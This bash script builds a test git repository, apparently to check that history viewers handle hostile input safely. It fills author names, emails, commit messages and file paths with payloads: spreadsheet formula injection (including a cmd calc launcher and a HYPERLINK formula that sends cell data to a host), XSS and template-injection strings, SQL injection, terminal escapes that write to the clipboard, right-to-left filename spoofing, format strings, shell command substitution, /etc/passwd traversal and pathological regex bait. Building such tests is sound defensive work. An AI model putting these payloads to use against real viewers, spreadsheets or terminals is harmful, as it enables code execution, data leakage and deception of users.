#!/usr/bin/env bash
# Text that attacks whoever shows it: spreadsheet formulas, HTML and script, terminal escapes (colours, titles, links,
# clipboard), right-to-left overrides, control characters, format strings, path-like names, and messages that make
# backtracking patterns slow or long. All of it stands in subjects, names, mails, bodies, trailers, paths and content.
#
# HEAD: 9c1d23f5797852434e79c293e58223575c427073
# fsck: clean

# shellcheck disable=SC2016 # nothing here is meant to expand
# shellcheck source=repository.bash
source "$(dirname "$0")/repository.bash"
start "$@"

escape=$'\e[2J\e[31mred\e[0m\e]0;title\a\e]8;;https://example.org\e\\link\e]8;;\e\\\e]52;c;c3Bybmc=\a'
lines start >text.txt
commit Start 2024-01-01T10:00:00Z

hour=0
# tell NAME MAIL MESSAGE: one commit an hour, each with a line of the same text.
tell() {
    hour=$((hour + 1))
    as "$1" "$2"
    printf '%s\n' "$3" | tr '\n' ' ' >>text.txt
    lines '' >>text.txt
    commit "$3" "$(printf '2024-01-02T%02d:00:00Z' "$hour")"
}
tell '=HYPERLINK("http://example.org","Ann")' '=1+1@example.org' '=HYPERLINK("http://example.org?"&A1,"click")'
tell '+1 (555) 0100' '+1@example.org' '+1'
tell '-1' '-1@example.org' '-1+cmd|'"' /C calc'"'!A0'
tell '@SUM(A1:A9)' '@example.org' '@SUM(1+1)*cmd'
tell $'Tab\tled' 'tab@example.org' $'\t=1+1'
tell 'Carriage return' 'cr@example.org' $'\r=1+1\rover the line'
tell '"quoted", comma' 'a,b@example.org' $'"; DROP TABLE commits; --\n\n","",""\n'
tell 'script &amp; alert(1)' 'x@example.org' '</title><script>alert(1)</script><img src=x onerror=alert(1)>'
tell "' onmouseover='alert(1)" 'y@example.org' '{{constructor.constructor("alert(1)")()}} ${7*7} <%= 7*7 %> {{7*7}}'
tell "Esc $escape" "$escape@example.org" "Escape $escape"
tell $'Eight\xc2\x9b31mbit' 'c1@example.org' $'C1 \xc2\x9b31m and \xc2\x85 and \xe2\x80\xa8 line separator'
tell $'\xe2\x80\xaegnihton\xe2\x80\xac' 'rtl@example.org' $'Access \xe2\x80\xae}\xe2\x81\xa6if admin\xe2\x81\xa9\xe2\x80\xac'
tell $'Bell\a Back\bspace' 'ctl@example.org' $'\x01\x02\x03\x07\x08\x0b\x0c\x0e\x1a\x1f\x7f all sorts'
tell $'Zero\xe2\x80\x8bwidth' 'zw@example.org' $'\xe2\x80\x8b'
tell '%s%n%x' '%n@example.org' '%s%s%s%n %d $(touch SPRUNG) `touch SPRUNG`'
tell '/../../etc/passwd' 'NUL@example.org' 'CON: ../../../../etc/passwd file:///etc/passwd'
tell 'dependabot[bot]' 'human@example.org' $'Fixes: 0000000000000000000000000000000000000000 ("=1+1")\n\nFixes: HEAD\nFixes: ../../x'

# Bait for patterns: 64 KiB of one letter, of brackets, of blanks, of half a trailer; 5,000 trailers; 20,000 lines.
bait() { head -c "$2" /dev/zero | tr '\0' "$1"; }
as 'Long Winded' long@example.org
{
    bait a 65536; lines '!'
    bait '(' 65536; lines ''
    bait ' ' 65536; lines x
    bait - 65536; lines ''
    lines ''
    seq -f 'Co-authored-by: A%g <a@' 1 2000
    lines ''
} >"$(git rev-parse --git-path bait)"
at 2024-01-03T10:00:00Z
git commit -q --allow-empty --cleanup=verbatim -F "$(git rev-parse --git-path bait)"
{
    lines 'Many trailers' ''
    printf 'Co-authored-by: Person %s <person@example.org>\n' {1..5000}
} >"$(git rev-parse --git-path bait)"
at 2024-01-03T11:00:00Z
git commit -q --allow-empty --cleanup=verbatim -F "$(git rev-parse --git-path bait)"
{ lines 'Many lines' ''; seq -f 'Line %g of the body.' 1 20000; } >"$(git rev-parse --git-path bait)"
at 2024-01-03T12:00:00Z
git commit -q --allow-empty --cleanup=verbatim -F "$(git rev-parse --git-path bait)"
rm "$(git rev-parse --git-path bait)"

mkdir '<img src=x onerror=alert(1)>'
lines x >'<img src=x onerror=alert(1)>/a.html'
lines x >"=cmd|' .csv"
lines x >$'esc\e[31m\e]0;t\a.txt'
lines x >$'rtl\xe2\x80\xaetxt.exe'
ann
commit 'Hostile paths' 2024-01-04T10:00:00Z
